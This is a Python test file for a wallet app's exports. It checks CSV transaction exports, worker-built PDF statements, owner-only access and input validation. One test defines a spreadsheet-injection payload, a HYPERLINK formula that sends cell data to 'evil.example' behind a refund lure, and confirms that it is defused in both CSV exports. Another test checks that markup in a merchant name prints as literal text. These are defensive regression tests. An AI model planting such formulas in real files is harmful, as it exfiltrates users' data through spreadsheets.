"""Exports: transactions as CSV for a date range, monthly PDF statements via the worker."""

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta

import pytest

from tests.conftest import LiveServer
from tests.factories import make_user
from tests.graphql_client import call, send, token_for
from tests.merchant_helpers import create, customer, pay, shop
from wallet.db.engine import connection
from wallet.exports.service import generate_requested, generate_statement

pytestmark = pytest.mark.usefixtures("assert_ledger_sound")

STATEMENTS = "{ statements { month sizeBytes downloadUrl } }"
REQUEST = """mutation($m: Date!) { requestStatement(month: $m) {
  __typename ... on StatementRequestedPayload { month }
  ... on ValidationError { fieldErrors { field code } } } }"""


async def download(live: LiveServer, path: str, token: str | None) -> tuple[int, str, bytes]:
    headers = {"authorization": f"Bearer {token}"} if token else {}
    async with live.client() as http:
        response = await http.get(path, headers=headers)
    return response.status_code, response.headers.get("content-type", ""), response.content


async def test_csv_has_the_users_rows_in_range_and_defuses_formulas(
    live_server: LiveServer,
) -> None:
    alice, bob = await make_user(balance="50.00"), await make_user(balance="7.00")
    token, bob_token = await token_for(live_server, alice), await token_for(live_server, bob)
    await send(live_server, token, bob.username, "12.34", note='=HYPERLINK("x")')
    await send(live_server, bob_token, alice.username, "2.00", note="thanks")
    today = datetime.now(UTC).date()

    status, kind, body = await download(
        live_server, f"/export/transactions.csv?from={today}&to={today}", token
    )
    assert (status, kind) == (200, "text/csv; charset=utf-8")
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert [(r["line"], r["type"], r["amount"], r["counterparty"]) for r in rows] == [
        ("opening", "", "", ""),
        ("posting", "promotional_credit", "50.00", ""),
        ("posting", "send", "-12.34", bob.username),
        ("posting", "send", "2.00", bob.username),
        ("closing", "", "", ""),
    ]
    assert rows[2]["note"] == '\'=HYPERLINK("x")'
    assert (rows[2]["category"], rows[3]["category"]) == ("transfers", "income")
    assert [r["running_balance"] for r in rows] == ["0.00", "50.00", "37.66", "39.66", "39.66"]

    yesterday = today - timedelta(days=1)
    _, _, empty = await download(
        live_server, f"/export/transactions.csv?from={yesterday}&to={yesterday}", token
    )
    # Yesterday the wallet held nothing and nothing moved: no statement, the header alone.
    assert empty.decode().strip().count("\n") == 0
    assert (await download(live_server, "/export/transactions.csv?from=2026-13-01", token))[
        0
    ] == 400
    reversed_range = f"/export/transactions.csv?from={today}&to={yesterday}"
    assert (await download(live_server, reversed_range, token))[0] == 400
    assert (await download(live_server, "/export/transactions.csv", None))[0] == 401


async def test_statements_are_built_by_the_worker_and_only_for_their_owner(
    live_server: LiveServer,
) -> None:
    alice, bob = await make_user(balance="80.00"), await make_user()
    token, bob_token = await token_for(live_server, alice), await token_for(live_server, bob)
    await send(live_server, token, bob.username, "30.00")
    month = datetime.now(UTC).date().replace(day=1)

    asked = await call(live_server, token, REQUEST, {"m": month.isoformat()})
    assert asked["month"] == month.isoformat()
    async with connection() as conn:
        event = await conn.fetchval(
            "SELECT id FROM outbox_event WHERE topic = 'statement.requested' ORDER BY id DESC"
        )
    assert await generate_requested(int(event)) > 1000
    (listed,) = await call(live_server, token, STATEMENTS)
    assert listed["downloadUrl"] == f"/export/statements/{month:%Y-%m}"

    status, kind, pdf = await download(live_server, listed["downloadUrl"], token)
    assert (status, kind) == (200, "application/pdf")
    assert pdf.startswith(b"%PDF")
    assert b"Opening balance" in pdf and b"Closing balance" in pdf and b"50.00" in pdf
    assert (await download(live_server, listed["downloadUrl"], bob_token))[0] == 404
    assert await call(live_server, bob_token, STATEMENTS) == []
    assert (await download(live_server, "/export/statements/2026-xx", token))[0] == 400

    # Regenerating replaces it; a future month is refused.
    await generate_statement(alice.id, month)
    assert len(await call(live_server, token, STATEMENTS)) == 1
    future = await call(live_server, token, REQUEST, {"m": "2099-01-01"})
    assert future["fieldErrors"] == [{"field": "month", "code": "INVALID"}]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'


async def test_a_formula_in_a_note_is_defused_in_both_csv_exports(
    live_server: LiveServer,
) -> None:
    # The review's finding 10: the GDPR archive's transactions.csv kept the formula.
    alice, bob = await make_user(balance="20.00"), await make_user()
    token = await token_for(live_server, alice)
    await send(live_server, token, bob.username, "1.00", note=FORMULA)
    today = datetime.now(UTC).date()

    _, _, export = await download(
        live_server, f"/export/transactions.csv?from={today}&to={today}", token
    )
    _, _, archive = await download(live_server, "/export/my-data.zip", token)
    gdpr = zipfile.ZipFile(io.BytesIO(archive)).read("transactions.csv")
    for body in (export, gdpr):
        notes = [r["note"] for r in csv.DictReader(io.StringIO(body.decode()))]
        assert "'" + FORMULA in notes
        assert FORMULA not in notes


async def test_a_merchant_name_with_markup_is_printed_not_run_in_the_statement(
    live_server: LiveServer,
) -> None:
    _, owner_token, merchant_id = await shop(live_server)
    async with connection() as conn:
        await conn.execute(
            "UPDATE merchant SET name = $2 WHERE id = $1", int(merchant_id), "<b>Bad & Co"
        )
    buyer, buyer_token = await customer(live_server)
    request = (await create(live_server, owner_token, merchant_id, amount="3.00"))["request"]
    assert (await pay(live_server, buyer_token, request["id"]))["__typename"] == (
        "PayPaymentRequestPayload"
    )
    pdf = await generate_statement_bytes(buyer.id)
    # The literal text, drawn in runs: "Paid <", "b", ">", "Bad & Co" (no bold font).
    assert b"(Paid <) Tj" in pdf and b"(Bad & Co) Tj" in pdf


async def generate_statement_bytes(user_id: int) -> bytes:
    month = datetime.now(UTC).date().replace(day=1)
    await generate_statement(user_id, month)
    async with connection() as conn:
        return bytes(
            await conn.fetchval(
                "SELECT pdf FROM statement WHERE user_id = $1 AND month = $2", user_id, month
            )
        )
